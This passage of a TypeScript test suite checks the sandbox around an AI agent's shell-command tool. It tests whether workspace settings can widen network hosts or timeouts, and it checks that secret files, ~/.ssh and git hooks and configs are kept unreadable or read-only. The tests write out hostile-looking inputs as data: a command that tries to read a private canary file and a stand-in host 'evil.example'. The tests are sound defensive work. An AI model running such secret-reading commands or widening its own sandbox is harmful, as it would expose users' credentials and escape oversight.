    await assert.rejects(f.s.invoke('run_shell_command', { command: 'touch ran.txt', cwd: 'private' }), (e: unknown) => isSandboxError(e) && e.code === 'E_SANDBOX_REFUSED');
    assert.equal(existsSync(nodePath.join(f.s.root, 'ran.txt')), false);
    const { text, all } = await run(f, 'cat private/notes.txt; grep -r CANARY .');
    assert.ok(!all.includes(CANARY), text);
  });
});

describe('run_shell_command settings', () => {
  test('allowed hosts are the user\'s: a workspace value only narrows them, and cannot raise the timeout cap', () => {
    const scoped = scopeShellSettings(
      { user: ['registry.npmjs.org', 'github.com'], workspace: [{ value: ['github.com', 'evil.example'], where: 'workspace settings' }] },
      { user: undefined, workspace: [{ value: 9_000_000, where: 'workspace settings' }] },
    );
    assert.deepEqual(scoped.allowedDomains, ['github.com']);
    assert.equal(scoped.maxTimeoutMs, 600_000);
    assert.equal(scoped.problems.length, 2);
    assert.match(scoped.problems[0]!, /"evil\.example", which your user settings do not allow/);
    const none = scopeShellSettings({ user: undefined, workspace: [{ value: ['a.example'], where: 'w' }] }, { user: 1_200_000, workspace: [] });
    assert.deepEqual(none.allowedDomains, []);
    assert.equal(none.maxTimeoutMs, 1_200_000);
    assert.match(scopeShellSettings({ user: 'x', workspace: [] }, { user: 5, workspace: [] }).problems.join(' '), /no network until it is fixed.*at least 1000/);
  });

  test('the boundary is what the policy decides: deny and ask rules are unreadable, a protected file read-only, other files untouched', async (t) => {
    const root = testDir(t, 'wt-boundary-').path;
    for (const rel of ['src/app.ts', 'src/.ENV.local', 'keys/deploy.pem', 'private/a/b.txt', 'package.json', 'nested/pkg/package.json', 'node_modules/dep/package.json', 'node_modules/dep/.env']) {
      mkdirSync(nodePath.dirname(nodePath.join(root, rel)), { recursive: true });
      writeFileSync(nodePath.join(root, rel), 'x');
    }
    const policy = new Policy([{ glob: 'private/**', read: 'deny' }]).within([root]);
    const boundary = await deriveBoundary({
      policy, roots: [{ name: 'w', address: root, localPath: root }], writeFolders: [root], home: '/home/someone', privateFolders: ['/spool'],
      tempFolder: '/tmp/t', allowedDomains: [], list: ripgrepLister(ripgrep), signal: new AbortController().signal,
    });
    const rel = (paths: readonly string[]): string[] => paths.filter((p) => p.startsWith(root)).map((p) => nodePath.relative(root, p)).sort();
    assert.deepEqual(rel(boundary.denyRead), ['keys/deploy.pem', 'node_modules/dep/.env', 'private', 'src/.ENV.local']);
    assert.ok(boundary.denyRead.includes('/home/someone/.ssh') && boundary.denyRead.includes('/spool'));
    // Secrets are write: ask as well, so they are read-only too; installed dependencies are left writable.
    assert.deepEqual(rel(boundary.denyWrite), ['.git/config', '.git/hooks', '.vscode', 'keys/deploy.pem', 'nested/pkg/package.json', 'package.json', 'src/.ENV.local']);
    assert.deepEqual(boundary.allowWrite, [root, '/tmp/t']);
  });

  test('core.hooksPath is read from a repository\'s configuration as git reads it (compared with git config --get)', (t) => {
    const dir = testDir(t, 'wt-gitconfig-').path;
    const file = nodePath.join(dir, 'config');
    const cases = [
      '[core]\n\thooksPath = .githooks\n',
      '[CORE]\n  HooksPath=hooks dir # a comment\n',
      '[core]\nhookspath = "quoted ; not a comment"\n',
      '[core] hooksPath = same-line\n',
      '[core]\n\thooksPath = a\n[core]\n\thooksPath = b\n',
      '[core "sub"]\n\thooksPath = not-core\n[core]\n',
      '; comment\n# another\n[user]\nname = x\n[core]\nbare = false\nhooksPath = tools/\\"h\\"\n',
      '[core.sub]\nhooksPath = legacy-subsection\n',
      '[core]\nhooksPath\n',
      '[core]\n\thooksPath = ~/hooks\n',
    ];
    for (const text of cases) {
      writeFileSync(file, text);
      let expected: string | undefined;
      try { expected = execFileSync('git', ['config', '-f', file, '--get', 'core.hooksPath'], { encoding: 'utf8' }).replace(/\n$/, ''); } catch { expected = undefined; }
      const hooksPath = parseConfig(text).entries.filter((e) => e.section === 'core' && e.subsection === undefined && e.key === 'hookspath').at(-1)?.value;
      assert.equal(hooksPath, expected, JSON.stringify(text));
    }
  });

  test('a workspace folder inside a repository: what the repository\'s configuration names inside the folder is held too (VS Code\'s git opens the enclosing repository)', async (t) => {
    const repo = testDir(t, 'wt-enclosing-').path;
    execFileSync('git', ['init', '-q', repo]);
    execFileSync('git', ['-C', repo, 'config', 'filter.x.clean', './app/tools/clean.sh']);
    execFileSync('git', ['-C', repo, 'config', 'include.path', '../app/local.gitconfig']);
    const folder = nodePath.join(repo, 'app');
    mkdirSync(nodePath.join(folder, 'tools'), { recursive: true });
    writeFileSync(nodePath.join(folder, 'tools', 'clean.sh'), 'cat\n');
    const boundary = await deriveBoundary({
      policy: new Policy([]).within([folder]), roots: [{ name: 'app', address: folder, localPath: folder }], writeFolders: [folder], home: '/home/someone', privateFolders: [],
      tempFolder: '/tmp/t', allowedDomains: [], list: ripgrepLister(ripgrep), signal: new AbortController().signal,
    });
    assert.ok(boundary.denyWrite.includes(nodePath.join(folder, 'tools', 'clean.sh')), boundary.denyWrite.join(', '));
    assert.deepEqual(boundary.unheld.map((n) => n.path), [nodePath.join(folder, 'local.gitconfig')]);
  });

  test('every repository under a write root keeps its config and hooks read-only: nested, without other files, submodules (names with "/"), linked worktrees (a relative core.hooksPath from their own folder), their gitdir files read-only; a pipe in place of a config is not waited on', { timeout: 60_000 }, async (t) => {
    const root = testDir(t, 'wt-boundary-git-').path;
    const at = (rel: string): string => nodePath.join(root, rel);
    const git = (...args: string[]): void => { execFileSync('git', ['-c', 'user.name=t', '-c', 'user.email=t@example.invalid', '-c', 'protocol.file.allow=always', ...args], { stdio: 'ignore' }); };
    git('init', '-q', root);
    git('-C', root, 'commit', '-q', '--allow-empty', '-m', 'root');
    git('-C', root, 'config', 'core.hooksPath', 'tools/hooks');
    mkdirSync(at('deep/er/lib'), { recursive: true });
    writeFileSync(at('deep/er/lib/x.txt'), 'x');
    git('init', '-q', at('deep/er/lib'));
    git('init', '-q', at('upstream'));
    git('-C', at('upstream'), 'commit', '-q', '--allow-empty', '-m', 'u');
    git('-C', root, 'submodule', 'add', '-q', '--name', 'libs/one', at('upstream'), 'one');
    git('-C', root, 'worktree', 'add', '-q', at('wt'));
    mkdirSync(at('node_modules/dep'), { recursive: true });
    writeFileSync(at('node_modules/dep/z.js'), 'z');
    git('init', '-q', at('node_modules/dep'));
    // A pipe in place of a configuration (a command running beside another can make one): read without waiting on it.
    git('init', '-q', at('piped'));
    rmSync(at('piped/.git/config'));
    execFileSync('mkfifo', [at('piped/.git/config')]);
    const boundary = await deriveBoundary({
      policy: new Policy([]).within([root]), roots: [{ name: 'w', address: root, localPath: root }], writeFolders: [root], home: '/home/someone', privateFolders: [],
      tempFolder: '/tmp/t', allowedDomains: [], list: ripgrepLister(ripgrep), signal: new AbortController().signal,
    });
    const held = boundary.denyWrite.filter((p) => p.startsWith(root)).map((p) => nodePath.relative(root, p)).filter((p) => /(^|\/)(config|hooks|commondir|config\.worktree|\.git)$/.test(p)).sort();
    assert.deepEqual(held, [
      '.git/config', '.git/hooks', '.git/modules/libs/one/config', '.git/modules/libs/one/hooks', '.git/worktrees/wt/commondir',
      'deep/er/lib/.git/config', 'deep/er/lib/.git/hooks', 'one/.git', 'piped/.git/config', 'piped/.git/hooks', 'tools/hooks', 'upstream/.git/config', 'upstream/.git/hooks', 'wt/.git', 'wt/tools/hooks',
    ]);
    assert.ok(!boundary.denyWrite.some((p) => p.endsWith('HEAD')), 'git writes HEAD');
  });
});
